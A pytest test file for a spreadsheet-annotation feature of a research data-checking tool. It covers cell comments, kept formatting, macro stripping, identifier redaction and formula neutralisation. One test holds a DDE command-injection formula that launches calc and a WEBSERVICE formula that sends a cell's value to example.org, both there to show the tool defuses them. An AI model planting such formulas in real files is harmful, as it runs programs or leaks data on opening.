"""The annotated copy of a workbook: comments at the cells, the rest as it was."""

import re
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from shutil import which

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from ketbio.errors import FileError
from ketbio.tables import annotate_workbook, check_table
from ketbio.tables.outcome import annotated_marks, text_book

RANGE = "age_years is 150; allowed: a number from 0 to 120."


@pytest.fixture
def original(tmp_path):
    """A workbook with a title row, a second sheet, a formula, formats and comments of its own."""
    book = Workbook()
    page = book.active
    page.title = "It's ages"
    rows = [["participant_id", "age_years", "sex"], ["P01", 150, "male"], ["P02", 20, "malle"]]
    for row in rows:
        page.append(row)
    page["B2"].comment = Comment("ask the site", "someone")
    page["B3"].number_format = "0.00"
    page["B3"].font = Font(italic=True)
    page.column_dimensions["A"].width = 33
    other = book.create_sheet("Other")
    other["A1"], other["B1"] = 2, "=A1*2"
    other["C1"].fill = PatternFill("solid", fgColor="FF00FF00")
    path = tmp_path / "ages.xlsx"
    book.save(path)
    return path


@pytest.fixture
def annotated(original, tmp_path):
    path = annotate_workbook(
        check_table(original, "participants"), tmp_path / "annotated.xlsx", source=original
    )
    return load_workbook(path)


def said(page):
    return {cell.coordinate: cell.comment.text for row in page for cell in row if cell.comment}


def words_of(page):
    return "\n".join(str(cell.value) for row in page for cell in row if cell.value is not None)


def test_complaints_stand_at_their_cells(annotated):
    comments = said(annotated["It's ages"])
    assert set(comments) == {"B2", "C3"}
    assert comments["B2"].startswith(f"ask the site\n\nketbio check\nERROR, range: {RANGE}")
    assert comments["C3"].startswith("ketbio check\nERROR, allowed: sex is 'malle'")


def test_marks_are_more_than_colour(annotated):
    cell = annotated["It's ages"]["B2"]
    assert cell.fill.patternType == "lightUp"
    assert cell.border.left.style == "thick"
    assert annotated["It's ages"]["A2"].fill.patternType is None


def test_the_rest_of_the_workbook_is_kept(annotated):
    page, other = annotated["It's ages"], annotated["Other"]
    assert annotated.sheetnames == ["ketbio checks", "It's ages", "Other"]
    assert (page["B2"].value, page["B3"].number_format, page["B3"].font.i) == (150, "0.00", True)
    assert page.column_dimensions["A"].width == 33
    assert (other["B1"].value, other["C1"].fill.fgColor.rgb) == ("=A1*2", "FF00FF00")
    assert [one.sheet_view.tabSelected for one in annotated.worksheets] == [True, False, False]


def test_the_list_leads_to_the_cells(annotated):
    page = annotated["ketbio checks"]
    head = next(row for row in page.iter_rows(values_only=True) if row[1] == "severity")
    assert head[:9] == ("done", "severity", "cell", "participant", "visit", "column", "value",
                        "complaint", "rule")  # fmt: skip
    links = {cell.value: cell.hyperlink.location for row in page for cell in row if cell.hyperlink}
    assert links == {"B2": "'It''s ages'!B2", "C3": "'It''s ages'!C3"}
    assert page.freeze_panes == "A6"
    counts = [row[1:5] for row in page.iter_rows(values_only=True)]
    assert counts[8:11] == [
        ("severity", "complaints", "rows", "rule"),
        ("error", 1, 1, "allowed"),
        ("error", 1, 1, "range"),
    ]
    assert page["A3"].value == "Counts by rule and notes: from row 9 on."
    assert "participants: 2 records, 0 accepted, 2 rejected" in words_of(page)


def test_the_list_is_printed_as_wide_as_its_columns_and_legibly(annotated):
    page = annotated["ketbio checks"]
    filled = [cell for row in page for cell in row if cell.value is not None]
    assert {cell.column_letter for cell in filled} <= set("ABCDEFGHI")
    assert page.print_area == f"'ketbio checks'!$A$1:$I${page.max_row}"
    assert page.print_title_rows == "$5:$5"
    # A character is 1.9 mm wide; A4 across has 277 mm: never below nine tenths of its size.
    assert sum(page.column_dimensions[letter].width for letter in "ABCDEFGHI") < 160
    wide = [cell for cell in filled if len(str(cell.value)) > 60 and cell.row > 5]
    merged = {str(area).split(":")[0] for area in page.merged_cells.ranges}
    assert {cell.coordinate for cell in wide if cell.column == 1} <= merged
    assert all(cell.alignment.wrap_text for cell in wide)


def test_the_source_is_left_as_it_was(original, tmp_path):
    before = original.read_bytes()
    check = check_table(original, "participants")
    annotate_workbook(check, tmp_path / "a.xlsx", source=original)
    assert original.read_bytes() == before
    with pytest.raises(FileError) as caught:
        annotate_workbook(check, original, source=original, overwrite=True)
    assert str(caught.value) == (
        "ages.xlsx is the file that was checked, which is never changed; give the annotated copy "
        "another name."
    )


def test_a_file_that_changed_is_refused(original, tmp_path):
    check = check_table(original, "participants")
    book = load_workbook(original)
    book.active["B2"] = 15
    book.save(original)
    with pytest.raises(FileError) as caught:
        annotate_workbook(check, tmp_path / "a.xlsx", source=original)
    assert str(caught.value) == (
        "ages.xlsx is not the file that was checked as participants, or it has changed since; "
        "check it again."
    )
    assert not (tmp_path / "a.xlsx").exists()


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("a.ods", "a.ods cannot be an annotated workbook; its name ends in .xlsx."),
        ("there.xlsx", "there.xlsx exists already; give another name, or ask to overwrite it."),
    ],
)
def test_where_nothing_can_be_written(original, tmp_path, name, sentence):
    (tmp_path / "there.xlsx").write_bytes(b"mine")
    check = check_table(original, "participants")
    with pytest.raises(FileError) as caught:
        annotate_workbook(check, tmp_path / name, source=original)
    assert str(caught.value) == sentence
    assert (tmp_path / "there.xlsx").read_bytes() == b"mine"


def test_a_csv_becomes_text_at_its_rows(csv_file, tmp_path):
    path = csv_file("participant_id,age_years,note", "", '007,150,"=1+1"', "P02,20,-5")
    check = check_table(path, "participants")
    written = annotate_workbook(check, tmp_path / "a.xlsx", source=path)
    page = load_workbook(written)["participants"]
    assert [cell.value for cell in page[3]] == ["007", "150", "=1+1"]
    assert {cell.data_type for row in page for cell in row if cell.value} == {"s"}
    assert "B3" in said(page)
    assert not re.search(rb"<f[ >]", b"".join(parts_of(written)))


def parts_of(path):
    with zipfile.ZipFile(path) as parts:
        return [parts.read(name) for name in parts.namelist() if "worksheets/" in name]


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    book = Workbook()
    for row in (["participant_id", "age_years", "remark"], ["P01", 150, "x"]):
        book.active.append(row)
    book.active["C2"].value, book.active["C2"].data_type = "=1+1", "s"
    path = tmp_path / "in.xlsx"
    book.save(path)
    written = annotate_workbook(check_table(path, "participants"), tmp_path / "a.xlsx", source=path)
    cell = load_workbook(written)["Sheet"]["C2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_a_formula_that_calls_a_program_is_made_text(tmp_path):
    book = Workbook()
    for row in (["participant_id", "age_years"], ["P01", 150]):
        book.active.append(row)
    book.active["D9"] = "=cmd|'/c calc'!A0"
    book.active["D8"] = '=WEBSERVICE("http://example.org/"&A2)'
    book.active["D7"] = "=SUM(B2:B2)"
    path = tmp_path / "in.xlsx"
    book.save(path)
    check = check_table(path, "participants")
    copy = load_workbook(annotate_workbook(check, tmp_path / "a.xlsx", source=path))
    page = copy["Sheet"]
    assert [page[name].data_type for name in ("D7", "D8", "D9")] == ["f", "s", "s"]
    assert page["D9"].value == "'=cmd|'/c calc'!A0"
    assert "2 formulas that would call a program or an address made text" in words_of(
        copy["ketbio checks"]
    )


def test_what_a_copy_cannot_hold_is_said(original, tmp_path):
    extra = tmp_path / "macros.xlsx"
    extra.write_bytes(original.read_bytes())
    with zipfile.ZipFile(extra, "a") as parts:
        parts.writestr("xl/vbaProject.bin", b"macro")
    check = check_table(extra, "participants")
    written = annotate_workbook(check, tmp_path / "a.xlsx", source=extra)
    assert "Macros are not in the copy." in words_of(load_workbook(written)["ketbio checks"])
    assert "xl/vbaProject.bin" not in zipfile.ZipFile(written).namelist()


def test_a_stopped_file_is_never_copied(tmp_path):
    book = Workbook()
    for row in (["participant_id", "age_years", "Surname"], ["P01", 150, "Doe"]):
        book.active.append(row)
    book.create_sheet("Contacts")["A1"] = "Jane Doe, +44 20 7946 0000"
    book.properties.creator = "Jane Doe"
    path = tmp_path / "in.xlsx"
    book.save(path)
    check = check_table(path, "participants")
    assert "direct_identifier" in set(check.complaints["rule"])
    written = annotate_workbook(check, tmp_path / "a.xlsx", source=path)
    with zipfile.ZipFile(written) as parts:
        text = b" ".join(parts.read(name) for name in parts.namelist()).decode("utf-8", "replace")
    assert "Doe" not in text
    assert "7946" not in text
    copy = load_workbook(written)
    assert copy.sheetnames == ["ketbio checks", "Sheet"]
    assert copy["Sheet"]["C2"].value == "[not shown]"
    assert "Direct identifiers were found in the file." in words_of(copy["ketbio checks"])


def test_a_copy_of_a_copy_forgets_the_first_marks(original, tmp_path):
    first = annotate_workbook(
        check_table(original, "participants"), tmp_path / "one.xlsx", source=original
    )
    book = load_workbook(first)
    book["It's ages"]["B2"] = 15
    book.save(first)
    check = check_table(first, "participants", sheet="It's ages")
    again = load_workbook(annotate_workbook(check, tmp_path / "two.xlsx", source=first))
    assert again.sheetnames == ["ketbio checks", "It's ages", "Other"]
    page = again["It's ages"]
    assert page["B2"].comment.text == "ask the site"
    assert page["B2"].fill.patternType is None
    assert page["C3"].comment.text.count("ketbio check") == 1


def test_a_corrected_annotated_workbook_is_checked_and_annotated_as_it_is(original, tmp_path):
    first = annotate_workbook(
        check_table(original, "participants"), tmp_path / "one.xlsx", source=original
    )
    book = load_workbook(first)
    book["It's ages"]["B2"] = 15
    # Whoever corrects a cell may take the comment away, and the pattern stays.
    book["It's ages"]["C3"], book["It's ages"]["C3"].comment = "male", None
    book.save(first)
    check = check_table(first, "participants")
    assert check.sheet == "It's ages"
    assert check.ok
    assert len(check.accepted) == 2
    assert (
        "Read from the first sheet, \"It's ages\"; not read: 'ketbio checks' (the list of an "
        "earlier check) and 'Other'."
    ) in check.notes
    again = load_workbook(annotate_workbook(check, tmp_path / "two.xlsx", source=first))
    assert again.sheetnames == ["ketbio checks", "It's ages", "Other"]
    page = again["It's ages"]
    assert said(page) == {"B2": "ask the site"}
    assert {page[name].fill.patternType for name in ("B2", "C3")} == {None}


def test_an_annotated_text_comes_back_too(csv_file, tmp_path):
    path = csv_file("participant_id,age_years", "P01,150")
    first = annotate_workbook(check_table(path, "participants"), tmp_path / "a.xlsx", source=path)
    before = check_table(first, "participants")
    assert (before.sheet, before.n_incoming) == ("participants", 1)


@pytest.mark.skipif(which("soffice") is None, reason="no LibreOffice is installed")
def test_an_annotated_workbook_that_libreoffice_saved_comes_back_too(original, tmp_path):
    first = annotate_workbook(
        check_table(original, "participants"), tmp_path / "one.xlsx", source=original
    )
    subprocess.run(
        [str(which("soffice")), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
         "--headless", "--convert-to", "ods", "--outdir", str(tmp_path), str(first)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    check = check_table(tmp_path / "one.ods", "participants")
    assert (check.sheet, check.n_incoming) == ("It's ages", 2)


def test_the_list_itself_is_no_table_to_annotate(original, tmp_path):
    first = annotate_workbook(
        check_table(original, "participants"), tmp_path / "one.xlsx", source=original
    )
    check = check_table(first, "participants", sheet="ketbio checks")
    with pytest.raises(
        FileError, match=r"^one\.xlsx was read from sheet 'ketbio checks', the list"
    ):
        annotate_workbook(check, tmp_path / "two.xlsx", source=first)


def test_several_complaints_of_a_cell_are_one_comment(tmp_path):
    rows = {"participant_id": ["P01", "P01"], "age_years": ["150", "150"]}
    check = check_table(pd.DataFrame(rows), "participants")
    page = load_workbook(annotate_workbook(check, tmp_path / "a.xlsx"))["participants"]
    shown = said(page)
    assert set(shown) <= {"A2", "A3", "B2", "B3"}
    assert sum(text.count("ERROR, ") for text in shown.values()) == len(check.found)


def test_a_complaint_in_merged_cells_stands_at_the_first(tmp_path):
    book = Workbook()
    for row in (["participant_id", "age_years", "sex"], ["P01", 20, "male"], ["P02", 21, "x"]):
        book.active.append(row)
    book.active.merge_cells("B3:C3")
    path = tmp_path / "in.xlsx"
    book.save(path)
    check = check_table(path, "participants")
    page = load_workbook(annotate_workbook(check, tmp_path / "a.xlsx", source=path))["Sheet"]
    assert "B3" in said(page)


def test_several_tables_of_one_file(tmp_path):
    book = Workbook()
    book.active.title = "people"
    for row in (["participant_id", "age_years"], ["P01", 150]):
        book.active.append(row)
    page = book.create_sheet("ratings")
    for row in (["participant_id", "visit", "madrs_total"], ["P01", "v", 61]):
        page.append(row)
    path = tmp_path / "in.xlsx"
    book.save(path)
    checks = [
        check_table(path, "participants", sheet="people"),
        check_table(path, "madrs", sheet="ratings"),
    ]
    copy = load_workbook(annotate_workbook(checks, tmp_path / "a.xlsx", source=path))
    assert set(said(copy["people"])) == {"B2"}
    assert "C2" in said(copy["ratings"])
    links = [cell.hyperlink.location for row in copy["ketbio checks"] for cell in row
             if cell.hyperlink]  # fmt: skip
    assert links[0] == "'people'!B2"


def test_a_table_too_large_for_a_workbook_is_refused(monkeypatch, tmp_path):
    monkeypatch.setattr(text_book, "LAST_ROW", 2)
    check = check_table(pd.DataFrame({"participant_id": ["P01", "P02"]}), "participants")
    with pytest.raises(FileError, match=r"^participants has 3 rows and 1 columns, more than"):
        annotate_workbook(check, tmp_path / "a.xlsx")


def test_very_many_comments_are_cut_and_the_list_is_whole(monkeypatch, tmp_path):
    monkeypatch.setattr("ketbio.tables.outcome.annotate.MOST_COMMENTS", 3)
    monkeypatch.setattr(annotated_marks, "MOST_COMMENTS", 3)
    people = {"participant_id": [f"P{i:02}" for i in range(9)], "age_years": range(121, 130)}
    check = check_table(pd.DataFrame(people), "participants")
    book = load_workbook(annotate_workbook(check, tmp_path / "a.xlsx"))
    assert len(said(book["participants"])) == 3
    words = words_of(book["ketbio checks"])
    assert words.count("allowed: a number from 0 to 120") == 9
    assert "Only the first 3 cells of a sheet carry a comment." in words


def test_a_workbook_that_cannot_be_copied_is_written_as_text(original, tmp_path, monkeypatch):
    check = check_table(original, "participants")

    def fail(*_, **__):
        raise KeyError("styles")

    monkeypatch.setattr("ketbio.tables.outcome.copied_book.load_workbook", fail)
    copy = load_workbook(annotate_workbook(check, tmp_path / "a.xlsx", source=original))
    assert copy["It's ages"]["B2"].value == "150"
    assert "could not be copied with its formats" in words_of(copy["ketbio checks"])


OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"


@pytest.mark.skipif(which("soffice") is None, reason="no LibreOffice is installed")
def test_libreoffice_opens_it_with_the_comments_in_place(original, tmp_path):
    path = annotate_workbook(
        check_table(original, "participants"), tmp_path / "annotated.xlsx", source=original
    )
    subprocess.run(
        [str(which("soffice")), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
         "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    sheets = ET.parse(tmp_path / "annotated.fods").getroot().iter(f"{{{TABLE}}}table")
    seen = {sheet.get(f"{{{TABLE}}}name"): commented(sheet) for sheet in sheets}
    assert list(seen) == ["ketbio checks", "It's ages", "Other"]
    assert set(seen["It's ages"]) == {(2, 2), (3, 3)}
    assert RANGE in seen["It's ages"][2, 2]
    assert seen["Other"] == {}


def commented(sheet):
    """Return the comments of a sheet of OpenDocument by row and column, counted from 1."""
    found, row = {}, 0
    for line in sheet.iter(f"{{{TABLE}}}table-row"):
        row += 1
        column = 0
        for cell in line:
            column += 1
            for note in cell.iter(f"{{{OFFICE}}}annotation"):
                found[row, column] = "".join(note.itertext())
            column += int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1")) - 1
        row += int(line.get(f"{{{TABLE}}}number-rows-repeated", "1")) - 1
    return found
